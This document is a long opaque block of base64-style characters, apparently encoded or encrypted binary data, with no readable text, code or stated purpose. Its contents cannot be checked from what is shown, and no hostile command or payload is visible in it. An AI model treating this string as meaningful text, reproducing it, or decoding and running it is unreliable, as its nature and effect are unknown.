ZgT+udfoRokhMghpjfwfBSO0ZJGSEzut8LiHuHa56VWFhotZDmy7wHVljoJTP1t1xW0A8ysWuv+ApnhZ+L89CoDYegdGw0TLjFD47fL4ElCvdgkF/cLfQiT/ttGpFnwSladZv2ZfrTkVdsSIXUpBh2aYh7fLHt0rRvljGGmCIfw7RbVxIaZsLo+xcOUMJNxDNscLNLpsqp8Dt0/zTuUMexryWlHzHLBWxyLVj2X6vRHxdMi51uo+sSSwP9jK5NnxQ1oT6H40ZS+XRCdff3WRdc3bMxvjV8Z8WbtOHx6vuXR388BYqjORotjnOOSi+WcHokM81bQYJjodPngVcX+IgYYZBB/PCpkUYPJeeLcKVA3Snyo6dlWOz5G3KKqpkbTjV1OyM1qNra1jqmSLKG8GPmPrJ9UtkioxgB2nAYKzTo8XUpW5wjIkO8whNL3wnj5bkXHrone2ihk113nb4h4FshePfHPGLBJWLrCbjIX7zyN3pw5fIGt+fF0ZuvHUL2idzc6YDHcYQXz41IIoOGhPDxlFVnm7TTQA9WRHLL26E6Bl/nW9tAcJPailb68bmAuo/G8SO+YIDOglBWZEfbvyZ35BzuEoZEvTa4ORg30u0TYpViEZ2DYRMm8Q1F6e53/PvEAy7AtiC/VjCNFVo72XdKrytWmlWBlPbAg3HNN0RNJrgEPrBycxuP3eDknU243hu7ihcZ18lKmExlvGifR6eD4RmUnmS/LClG5SPulbhDsKpGrjRA/HO1OcU0gZ8Loilav9geRwuHyYe9IquG6rCs8tVKXBV0fWz+8Z0ojxYbxajFt/LMcblMFOiviz0yTTRCVxHFIo1PTp2ECwyx77TM3xwkFCxpdmX4tluUDzdDsSN3ZL+Cld0INN76jbOwLp+afnR2cf9vjhQgzkJO5Bfoowz3rzj09x8m5ZL+3nFzERUDVv/5hXg7Ny5lFgBDuADuKapsTYNbFZ3E+2cAXdcDUjoEIihzSkKFewX3vAOBbslaYvKXyaLhTGzOeqCgoMCs6HsA4c3ziAUfLbp8/TQ11Dkzkzj51UzIYv4rOvMW8Xj6agvmTnmMPpQ4iqtbamKpjU5esAg5nxF5Ioh33GC1yWp2/0RyRR8mbGlXReuw1b52QRlsw9jKgBzD+rAFScbN+W4qE+r8Yn4LOywbsZ9jzen577bmF9vuOTTIuPXg+Bl5EW1VpVVnAjMEJx7X5vVO8zyqtTNe16kaYZcG9PbiI8ar0XI647zzHSz9AFZm5G1jezXMaWj/UqF4ehD/QQnlVMaCxzaByJ2pkHeRinfaBtEZFL06ehoZMseZyJx6ppXM5Ph9lm/HLZv43ouarE746/Ojbfzzz07hIeF/RhaHz64urNfi9aoYz+xWKYapU+7Z1tNxF0vTCGae67mhQyGlbE9a4E/UBWgHE3GU1vzYZgv+Ooct/WgkrNCIxmswd1Jrj5mbhJNvzNfKrZAIGyRgUUg3S0XD5SbySlVuiEqZjGfqI1UMmDA5ENINYV39BJLj39yka7Nn30nREaFjvf6CsOvnAlA6u1zrvbplIvCZ2sG3pljNDnXFs9gMa/DvsJIa2Y4x3iR/ThI0aQKPXm7qLNjoJPhetOyPh/vYM5nxluzYaAToIiNN7z2+rm+PYIsA2hLc8x3B7sfj9infYxdadxJ8z7W+Igdipsfy5zLpSp3vVP6ageo/R3RDaOtodjoUxOlV54iCbLgB5syWA4shVgVRVkfet503m2MoqCZZzXd+WwZlD8HxJh7fAFkGnvfPaZLGA4P4FBjXNtpMLwYqQN7ae7U/zLyZoqMi+RTcIQ+nueCUGbZNdPrTDEGhkRGaVHzM1Z+kbKhy/w2yrKcVdMuVs36mG3k5phjiL7HJgoD0mX84/z5VAKo0fbqdx5hDRs+mxvvwo1PbEpJEeM1utfvH0+/MrozqwIofssHaFQpU/BnQu9RrNd2gvGEpzWayieQ7f1+ql+tLqxh4SJLhdwvE9HbtTeeVFHgsajtMqNoPagtdQlW7YJEb2PtDhSVxfrOuO8pwiUacmtH7zqOoQFirNn6sSC9vpj9TDshQmAoofQv3v/Q9SWopnn0pJ1GFiMzuGOtRJAPxCo9lW4wNQL0ZiuPzZ5Uw7Req8BYy+vO42HUmJpeKr+S+0FM4TZnw/P2zoIKOPfiZSebNT5+m2lmT6xKHBkD3wMH82yARN7nHmtwE6lzRpsQGw/6QbvA/IrHs7sFQ6bGu7xPBTdOEOftu0Xx8lg9TY8ugO+0r2xtneCotC6hzKutwx0h/hmhT6ndn1j6zJ0tOvhdMri9lL8qla2jsjXUALGhwj+Ujm3UOsKiKJbKBi6oK/VAfBL2qqu7kW/8scR687FrszfajS46k7p1309IJZbDMjzA61n8V2ho1nzXJQDbRqLROlamPFi8ZPlg/gtl87NK7nPOsO2IYjaARP04Rofi6xEdO574/pEYj34awlpptlgjg0S3VqB4f0gDjwe8MtTD5edx14KqhhPR3bgIfMxjoYsmmIKF7HHaq/tIRzZPKF+tblytiRJ3xLryFqEboAXAzX/YQlUDzsWXibQfU74IXbf1HjRDmRlxhHWyFtjm4XDcWvZDTqo7JLu8vJUT+G6xobPBZkn7lQw/uQ4pW29oy9AFg/W0Q3VL663WxlFKimb0chEMUxAcvoGobiLbaCwbt5YXMH/0oY+HlY1pkmlrXbc193wizasly9FNXwSE2JZhmzv6e2NqAy+VryGxse0qYVlTH5vhV1FxguzQ+pA8Iy5LZq49taeeI8StMzcKW3O/NLmX6at9o1V726zOsfpfEvsvSI3p1UbcM3DqiWohrUyGJW2oHgnKHXOwfhWLkAcv+J+fL1Rbxyx/mdOLntzIMP6v/2AHmd+v8ocxdBYAUymOemsqlK0V2nFNSZD0eZM3JPLtWxW+5I2LCvZmKcuzruGFA4PBlMP2JyuuhDlMKNluZrs+yHjQYoJrFJUX1BbNZ+JgiPww7K4BZETY9bqCRwgXdNgSpJ88dhluDLTGJ5eDd68uMY4IFA59vDH+fdsR8uX+hoeaIJiDj4Ma+A32IZ4/AAC5FtGY+r/lP/8mywNYuohLFCeVfttGvL7XpiW7FKCUmtN9+2FfmZPGJnLFBZp5U7KHddOjy0So1WZKLqT8VVrahzQx244wRzK7VLkdKiD92Gi3jvYD9tfeWN0Og3nP0Sm269VBS7INwQEePnnex/I0S1MjjmiOUVqbodQwBaguGebAQTlFds3UvRUD94NTctZNM5NBWQw0ZhRVuYLheDWK4aFYRoLIDcOd/ccbcW1bgmqYAERmldisO/LmX1lqaGx7kYswTX+2YKM11VJ3ylc+o9gHRSH078PkuHit7sPRDRAc1c4UifJG/idQARcPJ+BpUMiAkAITnBbxqa2xFjgu780wrQnT69g+SyuPAKmmsrJxpoPbcU6W6g8TkpA4XP5Etta07h/xkv6k3c4XBnGnZfwXkgrzLN3/WiY51QIQpZs1sovFtv9Zz+kmsC3FbLHpmUdx0nrylUsNhQXoXTs2uBuCJR2cEss4AdBDZXqHVpWRufcHA15nTCd3lPWVsb1bZDRSVIomwR06yvc2Da2CvhqIbEzrisfJyAdBo/8MGILCUbugms5WROoOu/NHu+53BX74aNNi3lGABLTMdO6CmIEWi1sj+K5x5LtfmxpH1TGhV5fEg1DjBBzRiwAsSgxg6Nc9DXAzFBGNr+OKxFZM3aZNSe9Nr2sbrBtxicWrtorvCeHlOHvrIcOTi7JzR2JqHcOEhy1b8Z9jdOvd+K1yF9ZfO110Rr6S2F64ot4vT27NhtfAhKqjeQsQWX8Ql+cWCsnDER7VhfNukSP1vzDyODe4n0R5RM10qZMdnyG3HcYRAWpfbuV5fqncwExAVXY17Dt+f8fL9+rQFVNqX5vxnftDWSc1FRNiEhtM0/dNT50ZMe51J2St+JSwAVaK/alJ4oT75u1AEL3PH+R0SUA19P0/Y49f9vICLgexX0fibGBTCMc3YdY4PSrDLjK9Pn1oD2yDJJCrpKgRi4ovdFkTZ/FlqPN6eTmb/NfJzhI00rlngLPVgNDce0+LIdTTIt52TYA2qeFbIwU/aI6iIK/EDTYrCNrmVyRrqUGvCpup5jHRA6xf08WUhyt0A/6GkpZdzAXRimBlV+BTON5t2pRfPbxxydZfoAG5lYpR2FJQaCwk82uIhhn8RKtnw+VgesfnpnB/lz9QNzFchtwfzEhqauXUOzLKlupFtcYm3sEMJwzUHgdn9rldQdz24g3ob2d/uyw6HUdwybsNE6sIhnAC2UaucNaxA+yoZ7i4HHtO2Nem0aaQcxTaALAezhX77mzoy4oOz5UemcomTAP+pTY1uV7GKMOOZhcycQXUkBRQ4ETYhKrINnphpdvw7lWDdSCkNW99+xn6li8i2pHMdoxAaSBYQojt09APVY3Df7chZVStMpc1aK5sIDN438UPyDoRQBYOOAscB5fNDT0/VhQkdD2HALPH0JcNOIz8HwmthohpfxqY10N/TFHoehhP4YUSkaQQa64Y2unfnb+clDFwKLVYZ5Vs/FNsq69XWOomMTzKXPTyRIKsEp0Tt5PY/2ok8ygxRiSprAmR91juKJ5GXs1/IlzCVPuWl9+2jzSDl+IzComvp5pFyq6+uqVX4GEPiQQGTgwewEA33FP4lQ4j2/R41QVl3SZwv/GXKywNDLFIWUJafWXcb6h+P2iyP3FWcLMxAW2N/bzJuDJjRwN7+k1koyXtOSe5G0Jo22eexxPdnRWvvtlKa+jMCBYZMFkY4jNH0W0MGg7eqNhSv/B+1i0OtCflHWz9hq28hnDir1XzjVDcUB+BeWJ/D+oa8dInTHSm22n6kMFHMLU3IynR0W8ChuMz74FZo0CoNHXOg0OlKWf42m4q8BKgiPt8DgqOYJthR6f4OAlMQlNVvUlioUjQV1bJxo72k/7ViqgorXjDg4kmirtCgcWpgz9+4lQ3Czft4t9GAppJA1se8Npf+hOzTgpFtTH9zOosOpd2nII/tTzshglvx+RRBMNOEWjqqjf+UIal5HDM80wlogTiCvpufuPPz5YH9ni3tnNId7o+95Ij7VkTxILLcqYlBAm5qtO5F5h1fherpm+kKJPK4LjsWuARQ3TbZOdtscj7lK6MIrjocOMX6KXv42H6M7lgGfu34NygJ+whCDFsnbEJF0PGDsj1HNx4i2bybXbEfICPVJ3vJBlb2H9SbiO8pqOaMXM557Jz7kUskjVZU3J/5lw4PS6vz5yjlQ8Mkvxo3DtXeP0cjy4HV2XsopAcjrZcpTtQj/5PhNK143F1JLrmi4nTYwN4rgFNvGi+5Ny4ddGP2qBR2czoc/BsqLKX2wUNuoWLzbBrkwZBSUfMql70CCPo9C5y/M/etpOl7AYG+eJHUDr0SxTsSjJkJrXIpINn3mJRxcBDigVspNk63tovbKChUvG94dlKL28cWua9xCSX0SQf15fOZMASi0XswI4yCEYp7HGIqOQEY4BNus6PcTJOAtoLo+rKEU0YJNvkujJrHh6855sarierXOV7PJhJl/m5fmDi+41sfuFNo4Zzir16oOo1GXGHhXOcelZ5e071CwFHWYmNnAFf0c8cEsAv1XCUB4hx/TJjKPCXd3BCUSpN8Q/6UQSRu60pUFYNlKJJ6/kgFDGS1pNOMU2qNzxbn6/NXTyOtIKKR4XDLOn3nwLQ0dew/JsJLteG73mur59/7lYR5rOTZsUpxAaXws3EzwUn2cXtOVGjenrDsFUumnJcgl9uErdMmgaX797NUg0nOTdqAXOyCu8gdUJPjli4Nn3dFw2KfUVkrFBANm3S9jCPDG1DxhJwXh78au9FCeIchAaVkuVcfcLtv6rLlE0V1XlZt9q7CeEcGL89Nkk1M5sIjnf4U7hUSy+WS1LEIaOt/RPV9GyqvFAQw6mbZGPe34NMlQOEW+JYvsCFT+8414NolssVdgTDKNqKroWjWoIs8j5iTtdCgJbP9zop4uiRniuAuFAAmEZVyDe4Zc9Px6hhhFUxKfWQgn9jcj1Ot7PHPJbGkhySmmJccSqN9OqwDMckkzYNDITX4SxwTGi9Z80qnKjQdK/nlQTf51Ipha2X9XsmThgnbRbLMP8OgG93VxLMN6WT6m9wxRIz1euE3ds0DE5UHQpjobMTRRQSs+sHOuxFMh9uJ5G1EYZuG43gBEWF/+TsyGKavYVjOAm3P12YtvgIS4+Iv1mKOY15W8wJHjqLREWCmOotNTHSMUint0q1orHsnHGR83g7Eg2hZuH2WIanr1IkbDFEIIGg8S0zAp9NA+fQtY4oasFCeqytyCEqdICzR3uOz0MdAf+AB+2lXkP9ZPp0QU9zu1DEHS9qSAxRTZsVBW9SWFXguGbhP18igXHhfVDKTupjzWb5hBzKhPpdXjMqhIvdf7OvSykU452NdvNloisltlemQfK7oV/n1tCB4e8WKbR9btQd3BilfjB9jLaYPKPMcDoawOza7zpAPqkYzue3t9/SixaDqxoatF2X+DVd0mJzeR4yGnN1TWQJMvjjFgxwdoKifPv3+PGWmfiLpojjIPsnuMm6xK3TbnvwyHNtb1qKfW2Hi3dfJCN1NvLa/3js1fTeZzw1U45g19tOlohTFUTbyvjRqmqX/MwxUPFoBl4oUEQ+xU1fyrfPuWxhDw/tw3B6rq88R3Ywo8ciOhGhRfNjb9Oq9YjqspiU3tQqoakE3azbfT07gYHvVMSCiD04T5d60SN4uPvV0ZWq++/q7X50t//NSWK8g8qDSiLoEkovQy5JLOkUzQV6nipyQS/pl0tGAKFy4OT31viXP6WLKgst5vt8V7hQc1Oa1B0dDWC7hTn4PuuqTchXhgR+J3cBLTZXjFuHd7bx7MzHfclaHf/BTzojXiSWe2bJohtF8ZbW8QmveShDMJSRNcnP7AsZ4sq330OhslgedMqBvSQGSoRbGWRpKBqh1QGRoRq1/35bRk9o1WkvJ/+kzgA2UmWanjMlS+TEhv/agdpkD83M0YtXoUj+gNI98P20r9lanjnL17vb19gNW9nUbJjb8FfpokbTVEefE8U3X1/gltcMQbM9S4+WOvkPt+37qhamjtoUiCdxs+SYegnA8y67wKFfRL3mY2LaijAogBXVw3cb/cnlOdsmMTmhcu7U0ATLS2ydhOKkqzu0PD5MvmzL1a+ANokqK7ArZwzw2fDq/KbsX6zLMkF8/7WHlPTH26zIFHPwipOTanSAH2jWyOnkLAJmlsj0JZ1/p3XYfn+RYQBM/U7wfd9QdwOOdyDu7ciMp/ejjXul2lIMQtdOCtg6K+Da8vCvs4tG4Cbw+2iNxxQZxNfBpT3VSLILDgBNgcYC9Frau9aDKIq6C1I2tPhmpPOJNv+RaG/Otxl1VJ4ctHsidel+i6mvkd3Wmn2XXwLXrGOD/5Otr+gWMKrOJKxRb+YYyLG9N+EIsfR+oW9iIPS24L/ykQRojeuZa6e2nNcey4IIwvxi6UubemiY4SQICIWOGaunCqfq56VTGGSWYFHyfGLWNinBeIVy73NEpsZyStT3exOTuZP2fLxrqzY2ks73ZKxckB34tIpQHpH/fm0RFXtFBO6AhXUPXeNe0Yr/AC/w3ws2OH7kym7oaPjqaUOM9Lx8GkYx+BEc9xGtLkDZo2BF0DBffCrselhOtHZd3a25oQfJS52aWU0KUYXF5qMq37jjo5EnT/M+V2tGsM1ecg8ZwQFKNjkgpDO7xugiYiIEibI/RLzEWJY/E2RZV6BfbLS7JhaoRTw5mvl+5UdBLG+QJgqA9sjXd3sKTAH4eALgKKJFu0rTG9s9PlsZC3rlxmBuq3RLAC2y5pIDxDpmTT7isX45tlV1O+px8yrEvmswaNnG0mJU4S+gBY4j5iyyIpXGowUAboFEobNVrPd+SjkenxX9kvSPFqGbfCRD+nTWg60C7Pm6k7NX+qWPYqtkp3K9SVK70bDqjWSyxoK8h3c25tB6RwLjS+q5H4uvD4sb0X3T/MBmdUObfRnnOHU0mv+W0Sx66rKwBfY83h9dIVEcghFvWLyY32aZmGcewI156fo0uDo+OnS1J9XxvLj8o/9p2C8ZOA6cD+tkFVj0v6BYJXGEXno3/xiy3v3JHUH8UJibF9jNMCL+aZRXJMWtZ0lc3ik7dJ220wUfa33AR/OFhLizBCWnbIALUusWPksMDwvHc3zl6M6CQbo4TR66QeMWRgO/wSBpJ86nPCwYPXIIxoW1Hu0r1q4bTCx31s2H4DZPLaAvtpxSpIQXvgz5M/yrDOz9tiLkw8psfk0dw3+OfLcQHrK2hONoUf53UeXRrizgU2LsGZV2EftNNBVbdtb8+5TRp/uzZpxE6XKqmmoqU5BFLsdqEQEeotwGtNPHo73DO11vE8+7oWwQRQetIrbuipkZUJh0BQVDnaXqEvDS6Bq1UpFSCT4wGcesxxx1IS62n8VL1oI7eFp5nU9Rt1Pz1fapC2sxPparjUUi1w9XlWQDHNIJ2j2ZJQIH9/dfHy6VXbJE6/ZBYOtFglBWe5xH7QwMZ8OUcJFKOZX5h6csj4jAYF2OmKTW80Ypj3jxstK/mSrSnXAkC+hMPV8kQp33bHXswnTqtxz4CMA6xkZvhyYqOwjJY7j1wwSzYYZu0quDWNrGjBPp+zyK3786QPsaZ8JL6SEbm1zEZtmhhgBFIL7AJMP4nLeNkAeReIqvLdx4tPhxfkEOC5mmyearZZz7I3PaWCZDRHiviISAMjF1XGt8KRZ8k4fRc0LTffEc+KXSTbO+xwil8xGbcseKzSc4oiVhtSaaerrOyXl9EDjiq/R2USAbsdjlhEeJaE3RVXhscZzvdMebY0i4czG2nqNCWq7YtRs3PjyWlgUxewB60kwZFIPV/E7RVroYM6yFGv+NrvsCHJ+LIr1q7EyreL+ocFxexfem+Zvy2/L8VgjdfXLYvJXw9849PHU7edqvYKaHuGLyn5Mu3uTZSNxH4z23XuTajG+8bXJkVFil29Ucan0uR3fyIyEmQcC9UM4yJzv/R1Chzjjbx0YwtR9THdR+qSXKcbOu+Fv7qwlJsSpxRsOEpcu6IvpO8DZ7cenlb+RH770JOf47++JTrPekqORjs0MNqoFG9+ENHixfdKPGtuxRZ+dnrq2vIBDxUDseuxBkluzsyCBeVzcBg7DF5SoSpRs1pUt13vPvVnTiLk/GbY6J/EsTI/kDuNjjxE1pk+MBGyB9dsO7UGH4Rg1fL9MzDN6qFlUsM7lNiyz7kkzdjgfMB4ReXqfqZdEiKn9yvk5D/COmMicj71gwKL+938aJ9cD5BRiFgJS8ae7XFtV6vUj5RTxik7ElmHRYobZD2aN8EcmQHxDbGpTCWu1lErojYQImqms5cYChe/ZeynqMqJFHSGla/qB/XDKZbmkC1IKTa6Xbrb1y1SYHfxxpPH2VEKUllQYuBB9MTfzgu282+mDg4HE0LwcNO1491xTq9TruoKkMAAnaFp8GlzXURxVT+PZfhhDuucxMMzpLeDQvd6swq09OzLu1R/XLURzoLF1K8zeOsVSieg8FfKNghJ1gZVVODvXwD0TsN8yifRANYYvBTU1PRErlF+T90i8cEty6EAM8uTGAOpn1udP4w1EavySOh1kozx47reao+i7pAvhIJOSU0YpyDYBzAXxK6mQpo3vWWa6x15HTIqtH7RWEnPhfaFhPw+Sie8JYDNrcImzqdQzW/zITzz12FWeB7cJPj48ycImXuv0TWkORnLwXHcBN+YbF6qcMIOgncgOvNKHOD9O/dWZCCMNuyvFzFfRhZhKtKHJxAQvpKmGJ5Fmlj3tY34GVOBajM+V2TAShaS/o4siJOsCgGZmLYKlwx7UKGM1jB5IxK0XS/YCPfTjNj8IG6CngdBS9HQ4WRYeSjBWw4N3U9A2hFD9SFwq4GQo+AR+cgNF5q2wwR0geb5yYCqPRn8QVnB2ibtbX3DGFXW8IAx90Je9f+f1V2BVRUmf/giswB2HDoX+xU3bk7GHoHzpscnioyKELIjBfCsaVV4BUgqAzZUFNYub82MN8qIWl3KrAXgEOKXmje2mY6IDPKbtpJ6/69wb9C0TJKVglQK6AZ0kzcrxHPRCxQnHO2pr6HjlSYjjYW+No4Awo5kjJv359dMqNxXosufBTZU4pEzW/XzbqWmcr2xclE3f9GACNTlUB2Qsc/nuvA+liXOeQReZIZWv+RV14i/EB+ck/60ZGBMjzPKg5udBQGGAnM/jInK9z2MZc9NNaeuhFQpJ9cJ7wndn9J0ma4YZU0YJhqBQdzgPqJrbcnk5MrlT06XJTBRAd3KdwIuoGi8rEnRqK6ohVGF5IsMuim/ahjlaXHCBGAgXG5lWJMLQKsbjIadUZ33yu/UAW3WVlVPQoqm1Pr3X8L1aA9QBauyLz3ECltbOaSHATW1/wrshW36+jLUI6jAO6vgI3jH5GTF2CYfL26l8eAILhlx5/dHyLAGdThOS0Q+xWXzbdglwBSzjQy/lN6K0XyGbxTZqCyuxyvIyYcoPeRQhLOKfEnEwXu+BgD66j31WowMsSGpmH6ip0b6lVDmenm7+Ns3W4RV/LBpj8cqeiHTf8oEddeARJBloy7FyjnOLqFV6I0IbIvMY//cAQG/ckWQ/xLKB6I/X+8/YNZ6S3vb69hBZXCU/sZ5nvdOVuklbjn5HPnOK/M7MvnKUurMgFxu8HjOlBGEPgOrcIP6yrSUf0jYnd5lLiZhbt65mAmHy64ARNKy/9ZTGERJaqoeOxT+V0J2gpTCcw+S6n+YealU26easCZTrDiJ3OvWfcICNI31Y4UhHVsMzt3dnkbtLC7yXH7oo0ssto7Motg/tm7XA3OwMb3ElY6Ugsmgn161qoC6nj/FF47EuHehFfr119ojGa2iyHsrD2ki9Se/7/XXgXR2w2BdleWNv9s23gup9FfxuSuDqDb/RQb8Q9HPHlBDK1mF++hOmSoreBtpduPE/4i3pV3Ck6tRNzV5uTUMqsAsfyytns2Q7cxx8nbThlltr4MOpj2HmP18e03Dehu5fDitBRQsmL+2Rnkb8SUb0FYbyx28pK7FGT6pD5Wsc8BemWNKXYxLGSl1jzXhOnSr+XmVVyinx5nkqRUHZ/WqJC0zj8js/AkHdfwumKmOvhd3gKrCxzxDcWx5xFs8bLryPz8hmnTON9BGxBlf/PV7kAg5h/8himZgsaBPncuEDGkeJ1ct3gJm2nzcvQ9IEDc+6/Bw9iYy9cx2DgHtmoY/+Y1iPX5HoUTCtjPhj7qs0VrWXTwWlh4pCcK9LvZDANJrguqlCBf/O3WvdHFtzEaY+c+YX5yuxFXWIWVzC7nPMBNuy74+27m1gZu9DMGd0cK4CxAxBXDuqmwYLdujyDK03YvxPPhSwS9XqvhrDSpvK3KQ2HFYbFhLxJQ37MU4rUYNPX291VxtWj8+pnm/BIghxaAInjU/9jEpE/SZHpv0Akv1ux4v6hfdc18y0Sj2vfRr0nMAPgwLl1s+jb0Z7IwUCkCmgKqMzhWPXvIwHskPaG4XE7jbzmsV2++xkmA3XXNnFb2y/OOD3pJ9R0iuU1JNGdjG+bR2rPpJwCOZScqjUx23KxhejG3RYpFG5yShSReMN9oGUgJ8m6LM+CZJtSUXUwFfZ3jGNN8b2j5uSg0sfvrdiJOEPDl9dVgfpj322dUIh0+Zu1Jj2NhyN65NuSMP9Ph1pV4AW7VMH+ag8yb835g02xs0lKoKcxsNccYZ+hpRXZLgPzsGEO7zeF2WqLMIENsMlDuKST7F9W9RO5hBP8IyJ/+zVNQw3PcHjJ+DZJ2nZGHrHvAoV2Nm0Or/OUmr+2SoFbn5Misvk7nmAZvj3UGQPfaYUWvdrSfaFQUBX/1ZLYzXa6RkN26Hdd+5Hbe7iuxD7n984c+NaMy5XYpLZ2Bzm1UCBAvzUBLTE70kCytKr5OjNTIOMIDYIG1p4WZttrw83jVID9nnqKVC9xAtnSpeFECNFXa/iVAyYXK5kigULC7k6q7JaeSuNdkeNHQaMjHqH6GlY58ucIVpDU8P+CNmjnDfYDTOJjaBNyBO9yFZayh2FbQ35q6TMVY/3k6tKcWAzReNjWIuNnbn7WSrIelRPqkbmKtobfZRmRzPWZACfrzpUCYlKj+H/qYwsE2fBndVTbFPl/8kxzwJTDBHwteJGyrvyi/vrAjvNwTV0BV4DiSgFFR4nvYUkSfamk87SnkAU1GX/8bzpmqXtMEPrh94jalyvD7Xx4Z7Wq+IB80h1Gadvc951E7XxCgtaV1kZJ31Twe0+DbLezEI8ffkuYpq8H53lfljKldKA410BXvVHzhKLRiZl1nN7vk4NBz3poq881/7SLOkv9tFG290dIRX/NY1dm3xx/1kyjdWiiwkFC6FK0J9BibWZqgWDYwYZVzTaPNJ+cxjntK8iPD+xJvi1nqbas+NcrAsjzJwEXb5//AClYLBDDIoP9p1fihuvAEljEWKQLiA01ZffnUJ2IkAcD5IoRAKRDLDvWqjXUPbJ+S4RWj+rTHUibxYhW2sk4DratJqZR7vwRwlZ0LiXr1RxcrPpTG2/aUTkYIyDlABIUFWPp+Tgpqh2Hv0F+XHVOUianDZ514I1qmpef8hfQVuM5BfEyhRjBmx+LDCeyJuyfmV2AzEM2QVBgh9GHqEilqT/UP1dOLtXHkeE7BRgZU3rBX9WkHuwtEhwbKlf4vz97DOGjDhN8PLR4VcYAa9MZ1B1YdINc8S/qRL7A1CyhWmO+hFd1+AFNh7Mq7Hck8QwcSD+U6howPUIdzLfpjOI1HozP+mzL2dBorW//Mj1lJgvAxgmksOtEVcNMEoS3FfFbZiUZ1Lc/ALb7EKgU1O/zTRJAWlUbpINheiSmsS0z3NgoRsh5E/fKdxe3I4ifudmCIQ3l/ayyLxjkf5cjZFvWtU+kq91OtDZhHE0aezjxNbXS8rzUjPBAYwb5JgQIIV338thqeg/nIFnXAx8artm1ssbksUGCnuo0Uns9Wb4/SFifjVxolMApAI4TPjn1aTWatE+88YNCUXQRDLQIipun57FUltKPt3XRtDU49RR9kP/+tecHYLhgs66bj5wsQVqEddI5z7gHJ9y29gcWzEOyCfuk9vWb3t0Wq7Juuo8aMv6o7bPGJJ8AiUffVSI4mH7fbhGH+n8QnKj9NXI5qap5wkkWDWZQMP0nUKxHmr84b6RagkZNaX/Dg5pJYdLkQhWjxgnDdpyjIE7W2M0WobGvDVtjup+WENm96HE5oKCOikw9eLnfbZ1cyTRDI9v3E5j7Q8EidJTJKVbkby6+ByFmL35lK1DYn5ognbWIxEvh/BQdxqZbscT9z5QfhF1b5uTUAPcpctM/mhKi9OiPTTbZLM0w05KYIpbggOEhW5LuFEmv9/yOGoJhSgCDKfQOwLpIdd1XoStiZ2Xye+9cvfjXGdbSbqgXe6IfXqJ5hkdBc8VWxl5r+sWNWyhYdo3qBZqdvojwFWgWSOToXF1KAiW5h0wC/9BhuC93+2CBTaXWDcOJNofWJmbVcJlTqk8i2gDimzdqtAzD1fZ1O1gtuPofFKBazcZmRthZo5jlfWbMHar5mvxrQQPM2s8U7w/XfWqzS+lkW51xKIgH+OaXMvjVG9f0G+0N9M5+ZF63LLSC73hJZZ+7n2PLFwolPPTk68dLo+U0XSLHLurgM3rRKDFrevn5zLa+92dPfX7unO3AunDiVRkiEq07Dld1lmEAsIQA2qUO2wpp2nYGY5FVujSSepUo+n2NxuSgv0UFggttyIaxDxky0O82+g3XCm/96JgEbP9Aen5GpXUv56kyt3nT+erEjCYZ9+w/CG6msDiHK/I9zakjnGJFebfQtMUPhUqqCQSQlV/kMznlhCzgeuLxKpkgstv47gVQa7jevT1Yl75pHSD/vnisrPQAQAGrnLSNMZjQQoN4NA1QPkxoIDpPcDnF7RSKdBePsGRC3hDNEOQ15kiDdLTYaEp+wN3+8It+W1VBY8ZtpeeVyTqcn29Cqv38JIL8zDk/nNUVy9WdXSkTHn0wQHUWSwdSd551OTXj5v9v6MZUrMfciwIU3PXbal8y1JwAJlP8lABoFZNSUlHrD+R57//pJD4re8j48vt9tjxUTxYYWA++gM9GYKtI9oNGnqkSKdWHczCQnS6dOZREsDVMAwBb/RqsAhY7rWVCZjEjdYCBcxHTn3nnKTZI3zEOF8bkqVzMUO9p7m3gQNfpSr1mo6obIsCSYT30inpRRR7Nq4Rd9aftvbbtKqyuTGR4OJwbohBrcd55YkdVR6diDidGhlWm+7lI/BJ0jHCDCdowfN69f6buCN/FQj5GKNRwBkt8i+ZNu622WoQ6ItUGLnOI/MwbrauCGZ5P/oVEXDARZBj5y+2NuLMiOct+CkM9zLknbEbkVhr/01BDK5Sv3aQUWOl4GKVd9FTAFRNPeLL99Sn2soOHc5cQAHZ2Nyr18ZuI/tbqVt8rP6g3BjSYVX+P8bf2wtjjax1QFy0gjxv6+05+p3Hu0z56byvn5STknyq1LX//8V4kKKTKRGAcHCzla88xLvnIefV8SwVkaBvgTJqsaSrhR7Ow5mq7WXGIkHaZOmVowVNkjVgPHqMoY5vPh6H+Ci4pmsLmBGxla9geN++QcCWiAPOnslinoA1xibc38f1TRxrmuUEsOT5ubxNesG+wCUjRna7KjDhaM1v+vPI0V0vQI4I6xB5oTPuYyvT4GzuVwbVzcSdeLg8Alk0YEifqC0YvX4DHY/k0ObthPMxwvT35SLO5dQ8MSEXcDPRqi+vdys+Ob+1RzZGEN6O1gqNHAucmV2K99A3AgehmUKzELecXzwLEL7dpLcoL6CEMV1u2Mu74VG5ml+VzjeqGqaIoTP7f4qz2IVvuv/d0a6fqs2Ph12C3tuXQdQOONdW/yvzM8PFkEuzgv4gMKhnoSdvTaOc4v7luaUcro1AwAlNDobfCvYNHygK5KPAh76Y5CTAxnp4d2qWdPcFlL2iQEeRiB5d4vBys8GmrvoSK+FAWJs4sqzgIxQFdJQC/zYsors5+r65BGvf2mWc14mxxPIDnUJzZUtHQHhzDQhBAzipC9bWe6ZU7ttN87tictAklAGJIWCUFB7crrpyB10CwvzT1LKglW1NxQAnmHzY1FN04YBZDIk3fqli9Gw8nCfn9L80KJpanbAvEmxLFYbVw+t5EFvcHBX3PKf773Pq40Zjr1R4LmE9P2MtWWa0bHccgBDwvwGIeX+fHXjD+v80bUw5pQy7w41SSpFvgpDsjt25j1nPrKRn9aIyDquEKnYsInx7VCQds6naksL1GX7INIjiqdjR4zS8ogspZc6Hx/+3qbRXC8HcEf9GYZneQwZTUE+EPKsf1fYAZttsnQeey5FVMWgmPbv/u0x9fF2k+0YfquFR3wfEFoQUTJahxXNb3h5XtFT4foj/ZXa1lEcUiGqQR12i3W8Lz+VZyogj9T+ng+v+PEzqiqoK3oMaeLKckK4sn94FHdGxDFfiWwMn9Rhp57nsecaBxbGzRo/6CHkVVl/6ou+BIht/dkJfOuiFPWGl7OcbXbQAoTmmfkYNsuQ9nfRsRVuSYwmCI5XwcTZq4GM8dqNEXktZJUlByqXMTTGwiJEwuJieNQY990ucvmQN4cNwawHuhb+5+R4x1pr2Vim/UAgzFQjD3hgSNOMRXBkY/4psoDP+cR3pduMGEF4W2ddB/N0xspSYzD2pHm3MPnC7M0OsgFQKBiPIOvDMqLpWwbc0vLggnCVxQQnL6oyxH/5vFImcfwLstuPKSyXiFOeyz4AIvALQoaLuxo+ta105Iz+rf4SSmhT/hCMsP2I0LlCVY4BdRR